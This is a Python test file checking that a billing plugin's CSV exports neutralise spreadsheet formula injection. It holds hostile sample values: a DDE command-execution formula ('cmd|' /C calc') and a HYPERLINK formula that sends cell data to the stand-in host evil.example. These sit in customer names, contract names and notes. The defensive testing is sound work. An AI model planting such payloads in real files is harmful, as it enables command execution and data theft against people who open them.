"""Every CSV export goes through one writer: no cell a spreadsheet would run as a formula."""

import csv
import io
from datetime import date

from plugin import billing, csv_export, exports, transactions
from plugin.config import settings
from plugin.db import session
from plugin.models import Invoice
from plugin.services import evidence
from tests.conftest import at

OCTOBER = billing.Period(2026, 10)
CUSTOMER = "=cmd|' /C calc'!A0"
CONTRACT = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _cells(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def _formula(cell: str) -> bool:
    return cell[:1] in csv_export.FORMULA_STARTS and not csv_export._NUMBER.fullmatch(cell)


def test_a_formula_is_neutralised_and_numbers_stay_numbers():
    assert csv_export.neutralise(CUSTOMER) == "'" + CUSTOMER
    assert [csv_export.neutralise(x) for x in ("+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1")] == \
        ["'+1+1", "'-1-1", "'@SUM(A1)", "'\t=1", "'\r=1"]
    assert [csv_export.neutralise(x) for x in ("-200.00", "+49891234567", "42", 7, None)] == \
        ["-200.00", "+49891234567", "42", 7, None]


def test_a_hostile_customer_and_contract_name_land_as_text_in_every_csv_export(
        app, make_customer, make_contract, make_work):
    customer = make_customer(CUSTOMER, language="en")
    make_contract(customer, name=CONTRACT, quota_minutes=0)
    make_work(customer, at(2026, 10, 5, 9, 0), 31, subject="@SUM(1+1)*cmd|' /C calc'!A0",
              note="+1+cmd|' /C calc'!A0")
    with app.app_context():
        transactions.run_period(OCTOBER, settings())
        transactions.finalize(OCTOBER, settings(), on=date(2026, 11, 2))
        [invoice] = session.query(Invoice).all()
        transactions.credit(invoice.id, settings(), on=date(2026, 11, 3), reason="=1+1")
        files = {name: exports.export_period("2026-10", name, settings())[0][0][1]
                 for name in ("csv", "evidence")}
        log = evidence.evidence_log(customer, OCTOBER, settings())
        files["evidence log"] = evidence.to_csv(log, settings()).encode("utf-8")

    lines = _cells(files["csv"])
    assert {row["customer_name"] for row in lines} == {"'" + CUSTOMER}
    assert lines[0]["description"] == "'" + CONTRACT + ": monthly fee October 2026"
    # The invoice, then its credit note: negative amounts stay numbers.
    assert [row["amount"] for row in lines] == ["100.00", "90.00", "-100.00", "-90.00"]
    sessions = _cells(files["evidence"])
    assert [(row["record"], row["customer_name"], row["ticket"], row["note"]) for row in sessions] \
        == [("session", "'" + CUSTOMER, "'@SUM(1+1)*cmd|' /C calc'!A0",
             "'+1+cmd|' /C calc'!A0")]
    assert _cells(files["evidence log"])[0]["note"] == "'+1+cmd|' /C calc'!A0"
    for name, data in files.items():
        for row in _cells(data):
            assert not any(_formula(cell or "") for cell in row.values()), (name, row)
